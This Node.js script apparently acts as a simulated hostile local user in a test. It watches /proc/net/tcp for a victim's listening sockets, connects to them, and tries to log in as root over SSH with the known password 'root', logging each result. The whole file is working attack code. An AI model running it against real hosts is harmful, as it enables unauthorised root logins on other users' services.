import { spawn } from 'node:child_process';
import { appendFileSync, chmodSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';

// Another user of the host: looks at the kernel's list of sockets as fast as it
// can, connects to whatever the victim listens at, and logs in with the password
// that everybody knows, over the very connection that it has got hold of: that
// the listener is gone by then does not help. Called as
// `main.mjs VICTIM-UID FOLDER`; writes what came of it to FOLDER/seen, a JSON
// line each, until it is killed.

const [victim = '', folder = ''] = process.argv.slice(2);
const log = join(folder, 'seen');
const askpass = join(folder, 'askpass');
writeFileSync(log, '');
writeFileSync(askpass, '#!/bin/sh\necho root\n');
chmodSync(askpass, 0o700);

/** @param {Record<string, unknown>} event */
function tell(event) {
  appendFileSync(log, `${JSON.stringify({ at: Date.now(), ...event })}\n`);
}

/** Listening IPv4 sockets of the victim: `address:port`. */
function listeners() {
  const found = [];
  for (const line of readFileSync('/proc/net/tcp', 'latin1').split('\n').slice(1)) {
    const fields = line.trim().split(/ +/);
    if (fields[3] !== '0A' || fields[7] !== victim) continue;
    const [address = '', port = ''] = (fields[1] ?? '').split(':');
    const bytes = address.match(/../g)?.map((byte) => Number.parseInt(byte, 16)) ?? [];
    found.push(`${bytes.toReversed().join('.')}:${Number.parseInt(port, 16)}`);
  }
  return found;
}

/** Logs in over a connection whose first bytes have been read; gives what that shell said. */
async function logIn(socket, first) {
  const path = join(folder, `relay-${process.hrtime.bigint()}`);
  const relay = createServer((client) => {
    client.write(first);
    client.pipe(socket).pipe(client);
    client.on('error', () => {});
  });
  await new Promise((resolve) => relay.listen(path, resolve));
  const script = `const s=require('net').connect(${JSON.stringify(path)});process.stdin.pipe(s);s.pipe(process.stdout)`;
  const proxy = `'${process.execPath}' -e "${script.replaceAll('"', '\\"')}"`;
  const child = spawn(
    'ssh',
    [
      ...['-T', '-F', '/dev/null', '-o', `ProxyCommand=${proxy}`, '-o', 'LogLevel=ERROR'],
      ...['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null'],
      ...['-o', 'PreferredAuthentications=password,keyboard-interactive'],
      ...['-o', 'NumberOfPasswordPrompts=1', '-o', 'KexAlgorithms=curve25519-sha256'],
      ...['root@guest', 'echo inside as $(id -un)'],
    ],
    { env: { ...process.env, SSH_ASKPASS: askpass, SSH_ASKPASS_REQUIRE: 'force' } },
  );
  let said = '';
  child.stdout.on('data', (chunk) => (said += chunk));
  child.stderr.on('data', (chunk) => (said += chunk));
  await new Promise((resolve) => child.once('close', resolve));
  relay.close();
  rmSync(path, { force: true });
  return said;
}

const busy = new Set();

async function attack(where) {
  const [host, port] = where.split(':');
  const socket = connect(Number(port), host);
  const first = await new Promise((resolve) => {
    socket.once('data', resolve);
    socket.once('error', () => resolve(undefined));
    socket.once('close', () => resolve(undefined));
  });
  socket.on('error', () => {});
  if (first === undefined) {
    tell({ where, what: 'nothing' });
  } else if (first.toString('latin1').startsWith('SSH-')) {
    socket.pause();
    const said = await logIn(socket, first);
    tell({ where, what: said.includes('inside as root') ? 'login' : 'refused', said });
  } else {
    tell({ where, what: 'answer', said: first.toString('latin1').slice(0, 80) });
  }
  socket.destroy();
  // What answered once is there for longer; what has said nothing may be gone in a millisecond.
  if (first !== undefined) await sleep(1_000);
}

const known = new Set();
tell({ what: 'ready' });
for (;;) {
  for (const where of listeners()) {
    if (!known.has(where)) tell({ where, what: 'listener' });
    known.add(where);
    if (busy.has(where)) continue;
    busy.add(where);
    void attack(where).finally(() => busy.delete(where));
  }
  await sleep(1);
}
